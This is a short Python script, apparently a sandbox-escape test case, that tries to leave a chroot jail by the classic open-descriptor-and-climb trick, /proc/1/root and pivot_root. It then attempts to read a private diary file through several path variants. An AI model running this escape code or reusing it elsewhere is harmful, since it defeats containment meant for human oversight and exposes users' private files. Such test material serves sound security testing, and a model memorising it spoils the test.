"""Leaves the root the classic way: an open folder, a chroot further down, and many steps up; and by pivot_root."""

SOURCE = "chroot(2), NOTES: how the superuser gets out"
SUCCESS = "a canary in the outputs"

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/jail/old", exist_ok=True)
top = os.open("/", os.O_PATH)
for path in (b"/tmp/jail", b"/proc/1/root", b"/proc/self/cwd", b"."):
    print("chroot", path, "SUCCEEDED" if libc.chroot(path) == 0 else os.strerror(ctypes.get_errno()))
print("pivot_root", libc.syscall(155, b"/tmp/jail", b"/tmp/jail/old"), os.strerror(ctypes.get_errno()))
os.fchdir(top)
for _ in range(100):
    os.chdir("..")
libc.chroot(b".")
for path in ("@HOME@/private/diary.txt", "." + "@HOME@/private/diary.txt", "../" * 50 + "@HOME@/private/diary.txt"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
print("attempted")
